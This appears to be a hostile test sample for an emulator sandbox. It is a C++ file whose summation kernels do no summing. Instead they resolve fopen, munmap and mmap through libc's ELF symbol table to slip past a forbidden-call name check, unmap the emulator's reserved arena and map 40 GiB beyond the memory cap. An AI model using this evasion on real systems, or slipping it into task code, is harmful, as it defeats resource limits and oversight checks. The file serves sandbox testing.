// Dodges the emulator's memory cap: the emulator reserves a huge range of address
// space for device memory, and RLIMIT_AS is set just above it, so this unmaps the
// reservation and takes the space for itself (40 GiB, one page touched per GiB).
// Exercise 07; graded by tests/kit/single-hostile.sh, which checks that it unmapped
// 64 GiB of the arena (found from a device pointer where /proc is closed) and got nothing.
// It reaches fopen, munmap and mmap through libc's symbol table (libc_function), never
// naming them, as a real attacker would: the build's name check (forbidden-call) does
// not see it, and the sandbox is what must hold.
#include <cstddef>
#include <cstdio>
#include <sys/mman.h>
#include <cstdint>
#include <cstring>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

// The calls below, each through its address in libc.
static FILE * call_fopen(const char *path, const char *mode)
{
    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
}
static int call_munmap(void *at, size_t len)
{
    return ((int (*)(void *, size_t))libc_function("munmap"))(at, len);
}
static void * call_mmap(void *at, size_t len, int prot, int flags, int fd, off_t off)
{
    return ((void *(*)(void *, size_t, int, int, int, off_t))libc_function("mmap"))(at, len, prot, flags, fd, off);
}

// Where /proc/self/maps cannot be read, the arena is found from a device
// pointer instead: 64 GiB of it, from the first GiB boundary past the input.
static void grab(const void *dev)
{
    static bool done;
    if (done)
        return;
    done = true;
    FILE *m = call_fopen("/proc/self/maps", "r");
    char line[512];
    while (m && fgets(line, sizeof line, m)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == '-' &&
            perms[1] == '-' && hi - lo > (64UL << 30))
            call_munmap((void *)lo, hi - lo);  // the arena: gone
    }
    if (m)
        fclose(m);
    else {
        uintptr_t lo = ((uintptr_t)dev + (2UL << 30)) & ~((1UL << 30) - 1);
        if (call_munmap((void *)lo, 64UL << 30) == 0)
            printf("unmapped 64 GiB of the arena\n");
    }
    size_t want = 40UL << 30;
    char *p = (char *)call_mmap(nullptr, want, PROT_READ | PROT_WRITE,
                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (p == MAP_FAILED) {
        printf("no room past the memory cap: mmap failed\n");
        fflush(stdout);
        return;
    }
    for (size_t off = 0; off < want; off += 1UL << 30)
        p[off] = 1;
    printf("escaped the memory cap: %zu GiB mapped\n", want >> 30);
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_result, (void)n, (void)block;
    grab(d_input);
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_result, (void)n, (void)block;
    grab(d_input);
}
